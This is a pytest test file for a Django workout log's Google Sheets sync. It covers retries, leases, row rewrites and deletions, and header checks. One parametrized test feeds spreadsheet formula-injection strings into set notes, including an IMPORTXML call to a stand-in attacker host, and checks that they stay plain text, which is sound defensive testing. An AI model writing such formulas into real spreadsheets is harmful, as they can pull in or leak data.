"""The sync contract, against the local Sheets imitation over real HTTP with real gspread."""

import datetime
import math
import threading
import time

import pytest
from django.db import connection
from django.utils import timezone

from sessions_app.models import Workout
from sync_app.admin import sheet_state
from sync_app.models import SheetsProfile, SheetState, SyncRun, Tombstone
from sync_app.push import run_sync
from sync_app.rows import HEADER
from sync_app.runner import LeaseKeeper
from sync_app.targets import Target
from tests.conftest import SPREADSHEET_ID
from tests.helpers import bulk_completed_sessions
from tests.sync_helpers import (
    SQUAT_DAY,
    completed_workout,
    data_rows,
    failed_pushes,
    keys_in_sheet,
    sheet,
    trimmed,
)

# Opening the tab, reading the key column and the rows to compare, a rewrite, a deletion.
FIXED_CALLS_PER_RUN = 5

THE_SHEET = Target(SPREADSHEET_ID, "Log")  # the instance's sheet, every lifter's here


def expected_row(workout_set):
    session = workout_set.workout
    return [
        session.date.isoformat(),
        session.pk,
        session.routine_slug,
        workout_set.exercise_name,
        workout_set.set_number,
        *[int(v) if v.isdigit() else v for v in (workout_set.weight, workout_set.reps)],
        workout_set.notes,
        timezone.localtime(workout_set.created_at).isoformat(sep=" ", timespec="seconds"),
        str(workout_set.key),
        # A tab the sync creates has header version 2: set type, RPE, unit, workout note.
        workout_set.set_type,
        "",
        workout_set.unit,
    ]


def test_first_sync_writes_the_header_and_one_row_per_set(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    result = run_sync()
    assert (result.outcome, result.appended, result.api_calls) == ("success", 3, 3)
    rows = sheet(sheets)
    assert rows[0] == HEADER
    assert rows[1:] == [expected_row(s) for s in session.sets.order_by("created_at")]
    session.refresh_from_db()
    assert session.synced_to_sheets and failed_pushes(session)[0] == 0
    assert not session.sets.filter(synced_to_sheets=False).exists()
    run = SyncRun.objects.get()
    assert (run.outcome, run.rows_appended, run.api_calls, run.sessions) == ("success", 3, 3, 1)


def test_a_run_with_nothing_pending_makes_no_api_call(sheets, alice, lower1):
    completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    sheets.reset_calls()
    result = run_sync()
    assert result.outcome == "nothing to do"
    assert sheets.call_count() == 0
    assert SyncRun.objects.count() == 1


def test_active_and_cancelled_workouts_never_reach_the_sheet(sheets, alice, bob, lower1):
    active = Workout.start(alice, lower1)
    active.log_set("Back Squat", "225", "5")
    cancelled = Workout.start(bob, lower1)
    cancelled.log_set("Back Squat", "135", "5")
    cancelled.cancel()
    assert run_sync().outcome == "nothing to do"
    assert sheets.call_count() == 0


def test_a_lost_answer_after_the_append_never_duplicates_rows(sheets, settings, alice, lower1):
    """The append lands, the answer is lost, the run ends before marking anything."""
    settings.SHEETS_MAX_ATTEMPTS = 1
    session = completed_workout(alice, lower1, SQUAT_DAY)
    sheets.drop_next(kinds=["values.append"], after_apply=True)
    assert run_sync().outcome == "failed"
    session.refresh_from_db()
    assert not session.synced_to_sheets and failed_pushes(session)[0] == 1
    assert len(keys_in_sheet(sheets)) == 3  # the rows did land

    result = run_sync()
    assert (result.outcome, result.appended) == ("success", 0)
    assert sorted(keys_in_sheet(sheets)) == sorted(str(s.key) for s in session.sets.all())
    session.refresh_from_db()
    assert session.synced_to_sheets


def test_a_write_that_lands_after_the_timeout_is_never_made_twice(sheets, settings, alice, lower1):
    """Google may apply a write after we gave up on it: no run plans again until it has settled."""
    settings.SHEETS_TIMEOUT_SECONDS = 0.3
    settings.SHEETS_SETTLE_SECONDS = 1.5
    session = completed_workout(alice, lower1, SQUAT_DAY)
    sheets.delay_next(1.0, kinds=["values.append"])  # applied after the client gave up
    result = run_sync()
    assert (result.outcome, result.retries) == ("failed", 0)
    assert run_sync().outcome == "settling"
    time.sleep(1.6)
    result = run_sync()
    assert (result.outcome, result.appended) == ("success", 0)
    assert sorted(keys_in_sheet(sheets)) == sorted(str(s.key) for s in session.sets.all())
    assert sheet(sheets).count(HEADER) == 1


def test_a_delete_that_lands_late_never_removes_another_row(sheets, settings, alice, lower1):
    settings.SHEETS_TIMEOUT_SECONDS = 0.3
    settings.SHEETS_SETTLE_SECONDS = 1.5
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    gone = session.sets.get(exercise_name="Leg Press", set_number=1)
    first_squat = session.sets.get(set_number=1, exercise_name="Back Squat")
    first_squat.delete()
    sheets.delay_next(1.0, kinds=["batchUpdate"])
    assert run_sync().outcome == "failed"
    time.sleep(1.6)
    assert run_sync().outcome in ("success", "nothing to do")
    remaining = set(session.sets.values_list("key", flat=True))
    assert {str(key) for key in remaining} == set(keys_in_sheet(sheets))
    assert str(gone.key) in keys_in_sheet(sheets)


def test_429_three_times_then_success_honours_retry_after(sheets, alice, lower1):
    completed_workout(alice, lower1, SQUAT_DAY)
    sheets.fail_next(429, times=3, retry_after=2)
    waits = []
    result = run_sync(sleep=waits.append)
    assert (result.outcome, result.retries, result.appended) == ("success", 3, 3)
    assert waits == [2, 2, 2]
    assert len(keys_in_sheet(sheets)) == 3


def test_backoff_without_retry_after_doubles_up_to_the_cap(sheets, settings, alice, lower1):
    settings.SHEETS_BACKOFF_SECONDS = 2
    settings.SHEETS_BACKOFF_MAX_SECONDS = 5
    settings.SHEETS_MAX_ATTEMPTS = 5
    completed_workout(alice, lower1, SQUAT_DAY)
    sheets.fail_next(503, times=4)
    waits = []
    assert run_sync(sleep=waits.append).outcome == "success"
    assert waits == [2, 4, 5, 5]


def test_a_500_storm_marks_the_session_failing_then_it_recovers(sheets, settings, alice, lower1):
    settings.SHEETS_MAX_ATTEMPTS = 2
    session = completed_workout(alice, lower1, SQUAT_DAY)
    for attempt in range(1, 4):
        sheets.fail_next(500, times=2)
        result = run_sync()
        assert result.outcome == "failed" and "answered 500" in result.errors[0]
        session.refresh_from_db()
        assert failed_pushes(session)[0] == attempt
    assert sheet_state(session).startswith("failing (3 attempts)")
    assert "answered 500" in failed_pushes(session)[1]
    assert sheet(sheets) == []

    assert run_sync().outcome == "success"
    session.refresh_from_db()
    assert (sheet_state(session), *failed_pushes(session)) == ("synced", 0, "")
    assert len(keys_in_sheet(sheets)) == 3
    assert list(SyncRun.objects.values_list("outcome", flat=True)) == ["success"] + ["failed"] * 3


def test_a_hanging_sheet_times_out_and_is_retried(sheets, settings, alice, lower1):
    settings.SHEETS_TIMEOUT_SECONDS = 0.3
    completed_workout(alice, lower1, SQUAT_DAY)
    sheets.delay_next(2, kinds=["metadata"])
    result = run_sync()
    assert (result.outcome, result.retries) == ("success", 1)
    assert len(keys_in_sheet(sheets)) == 3


def test_permission_errors_stop_the_run_with_a_clear_message(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    sheets.fail_next(403)
    result = run_sync()
    assert result.outcome == "failed" and result.retries == 0
    assert "answered 403" in result.errors[0]
    assert "Share the spreadsheet with the service account" in result.errors[0]
    session.refresh_from_db()
    assert not session.synced_to_sheets and failed_pushes(session)[0] == 1


def test_an_unknown_spreadsheet_stops_the_run(sheets, settings, alice, lower1):
    settings.SHEETS_SPREADSHEET_ID = "no-such-sheet"
    completed_workout(alice, lower1, SQUAT_DAY)
    result = run_sync()
    assert result.outcome == "failed" and "answered 404" in result.errors[0]
    assert sheets.call_count() == 1


def test_a_missing_tab_is_created(sheets, settings, alice, lower1):
    settings.SHEETS_WORKSHEET = "Training"
    completed_workout(alice, lower1, SQUAT_DAY)
    assert run_sync().outcome == "success"
    assert len(keys_in_sheet(sheets, worksheet="Training")) == 3


@pytest.mark.django_db(transaction=True)
def test_two_runs_started_together_never_run_alongside(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    sheets.delay_next(0.5, kinds=["metadata"])  # keeps the first run busy
    results, start = [], threading.Barrier(2)

    def sync_in_thread():
        start.wait()
        try:
            results.append(run_sync().outcome)
        finally:
            connection.close()

    threads = [threading.Thread(target=sync_in_thread) for _ in range(2)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(results) == ["busy", "success"]
    assert sorted(keys_in_sheet(sheets)) == sorted(str(s.key) for s in session.sets.all())
    assert SheetState.objects.get(target=str(THE_SHEET)).lease_holder == ""


def test_an_expired_lease_does_not_block_forever(sheets, alice, lower1):
    completed_workout(alice, lower1, SQUAT_DAY)
    assert SheetState.take_lease(THE_SHEET, "crashed-worker", seconds=600)
    assert run_sync().outcome == "busy"
    SheetState.objects.update(lease_expires_at=timezone.now() - datetime.timedelta(seconds=1))
    assert run_sync().outcome == "success"


@pytest.mark.django_db(transaction=True)
def test_the_lease_keeper_renews_while_the_run_lives_and_notices_a_lease_taken_over():
    assert SheetState.take_lease(THE_SHEET, "live-run", seconds=0.6)
    keeper = LeaseKeeper("live-run", seconds=0.6, target=THE_SHEET)  # renews every 0.2 s
    keeper.start()
    try:
        time.sleep(1.5)  # more than twice the lease: still ours
        assert SheetState.objects.get().lease_holder == "live-run"
        assert SheetState.objects.get().lease_expires_at > timezone.now()
        SheetState.objects.update(  # as if this process had been frozen past its lease
            lease_holder="another-run",
            lease_expires_at=timezone.now() + datetime.timedelta(seconds=60),
        )
        keeper.join(timeout=5)
        assert keeper.lost and not keeper.is_alive()
    finally:
        keeper.stop()
    assert SheetState.objects.get().lease_holder == "another-run"


def test_an_edit_in_the_admin_rewrites_the_row_in_place(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    second = session.sets.get(set_number=2, exercise_name="Back Squat")
    second.weight = "240"
    second.save_changes(["weight"])
    session.refresh_from_db()
    assert not session.synced_to_sheets
    sheets.reset_calls()
    result = run_sync()
    assert (result.appended, result.updated, result.deleted) == (0, 1, 0)
    rows = data_rows(sheets)
    assert rows[1] == expected_row(second)
    assert rows[1][5] == 240 and len(rows) == 3
    assert sheets.call_count() == 4  # metadata, keys, the changed rows, one batch update


def test_a_deleted_set_leaves_the_sheet(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    gone = session.sets.get(exercise_name="Leg Press")
    gone.delete()
    assert Tombstone.objects.filter(key=gone.key).exists()
    result = run_sync()
    assert (result.deleted, result.appended) == (1, 0)
    assert str(gone.key) not in keys_in_sheet(sheets)
    assert len(keys_in_sheet(sheets)) == 2
    assert not Tombstone.objects.exists()


def test_a_session_cancelled_after_sync_takes_its_rows_away(sheets, alice, lower1):
    keep = completed_workout(
        alice, lower1, [("Deadlift", "315", "5", "")], date=datetime.date(2025, 9, 20)
    )
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    session.status = Workout.Status.CANCELLED
    session.save_changes(["status"], was_status=Workout.Status.COMPLETED)
    assert run_sync().deleted == 3
    assert keys_in_sheet(sheets) == [str(keep.sets.get().key)]


def test_a_session_deleted_in_the_admin_takes_its_rows_away(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    session.delete()
    assert run_sync().deleted == 3
    assert keys_in_sheet(sheets) == []


def test_rows_typed_by_hand_without_a_key_are_never_changed(sheets, alice, lower1):
    legacy = [
        ["2025-01-05", "", "lower1", "Back Squat", 1, 185, 5, "old notebook", "", ""],
        ["2025-01-05", "", "lower1", "Back Squat", 2, 185, 5, "", "", ""],
    ]
    sheets.set_rows("workout-log-test", "Log", [HEADER, *legacy])
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    for workout_set in session.sets.filter(exercise_name="Leg Press"):
        workout_set.delete()
    run_sync()
    rows = data_rows(sheets)
    assert [trimmed(row) for row in rows[:2]] == [trimmed(row) for row in legacy]
    assert len(rows) == 4


def test_a_keyed_row_the_database_never_knew_is_left_alone(sheets, alice, lower1):
    stranger = [
        "2025-01-05",
        "x",
        "lower1",
        "Squat",
        1,
        100,
        5,
        "",
        "",
        "0e0e0e0e-0000-4000-8000-000000000000",
    ]
    sheets.set_rows("workout-log-test", "Log", [HEADER, stranger])
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    session.delete()
    run_sync()
    assert data_rows(sheets) == [stranger]


@pytest.mark.parametrize(
    "note", ['=IMPORTXML("http://evil.example", "//a")', "+1", "-2+3", "@SUM(A1)", "'quoted"]
)
def test_formula_looking_text_stays_text(sheets, alice, lower1, note):
    completed_workout(alice, lower1, [("Back Squat", "225", "5", note)])
    run_sync()
    assert data_rows(sheets)[0][7] == note  # stored as that exact string, not as a formula


def test_a_different_header_is_refused_and_nothing_is_written(sheets, alice, lower1):
    sheets.set_rows("workout-log-test", "Log", [["Date", "Exercise", "Weight", "Reps"]])
    session = completed_workout(alice, lower1, SQUAT_DAY)
    result = run_sync()
    assert result.outcome == "failed"
    assert (
        "expected date, session id, template, exercise, set number, weight (lb), reps, notes, "
        "logged at, key" in result.errors[0]
    )
    assert sheet(sheets) == [["Date", "Exercise", "Weight", "Reps"]]
    assert {call.kind for call in sheets.calls} == {"metadata", "values.batchGet"}
    session.refresh_from_db()
    assert not session.synced_to_sheets


@pytest.mark.parametrize("session_count", [1, 500])
def test_api_calls_per_run_do_not_grow_with_the_backlog(
    sheets, settings, alice, lower1, session_count
):
    synced = completed_workout(alice, lower1, SQUAT_DAY, date=datetime.date(2024, 1, 1))
    run_sync()
    # One run that appends, rewrites and deletes all at once: the most calls a run makes.
    edited = synced.sets.get(exercise_name="Leg Press")
    edited.reps = "10"
    edited.save_changes(["reps"])
    for workout_set in synced.sets.filter(set_number=2):
        workout_set.delete()
    bulk_completed_sessions(alice, session_count, first_day=datetime.date(2025, 1, 1))
    sheets.reset_calls()
    result = run_sync()
    assert (result.appended, result.updated, result.deleted) == (session_count * 2, 1, 1)
    # Reads, rewrites and deletions take a fixed number of calls; appends go in chunks of
    # SHEETS_ROWS_PER_CALL rows (one of 1,000 rows by default), so no call is too big.
    appends = math.ceil(session_count * 2 / settings.SHEETS_ROWS_PER_CALL)
    assert sheets.call_count("values.append") == appends
    assert result.api_calls == sheets.call_count() == FIXED_CALLS_PER_RUN + appends


def test_each_lifter_can_have_their_own_spreadsheet(sheets, alice, bob, lower1):
    sheets.create_spreadsheet("bobs-sheet", worksheets=("Sheet1",))
    SheetsProfile.objects.create(user=bob, spreadsheet_id="bobs-sheet", worksheet="Lifts")
    alices = completed_workout(alice, lower1, SQUAT_DAY)
    bobs = completed_workout(bob, lower1, [("Bench Press", "185", "5", "")])
    assert run_sync().outcome == "success"
    assert keys_in_sheet(sheets) == [str(s.key) for s in alices.sets.order_by("created_at")]
    assert keys_in_sheet(sheets, spreadsheet_id="bobs-sheet", worksheet="Lifts") == [
        str(bobs.sets.get().key)
    ]


def test_without_configuration_nothing_is_sent(sheets, settings, alice, lower1):
    settings.SHEETS_SPREADSHEET_ID = ""
    session = completed_workout(alice, lower1, SQUAT_DAY)
    assert run_sync().outcome == "not configured"
    assert sheets.call_count() == 0
    session.refresh_from_db()
    assert not session.synced_to_sheets and failed_pushes(session)[0] == 0


def test_a_session_edited_during_a_run_stays_pending(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)

    def edit_while_syncing(message):
        if "appending" in message:
            workout_set = session.sets.first()
            workout_set.notes = "changed mid-run"
            workout_set.save_changes(["notes"])

    run_sync(progress=edit_while_syncing)
    session.refresh_from_db()
    assert not session.synced_to_sheets
    result = run_sync()
    assert result.updated == 1
    assert "changed mid-run" in [row[7] for row in data_rows(sheets)]


def test_a_row_copied_by_hand_is_brought_back_to_one(sheets, alice, lower1):
    session = completed_workout(alice, lower1, SQUAT_DAY)
    run_sync()
    rows = sheet(sheets)
    sheets.set_rows("workout-log-test", "Log", [*rows, rows[1]])
    Workout.objects.filter(pk=session.pk).update(synced_to_sheets=False)
    result = run_sync()
    assert result.deleted == 1
    assert sorted(keys_in_sheet(sheets)) == sorted(str(s.key) for s in session.sets.all())
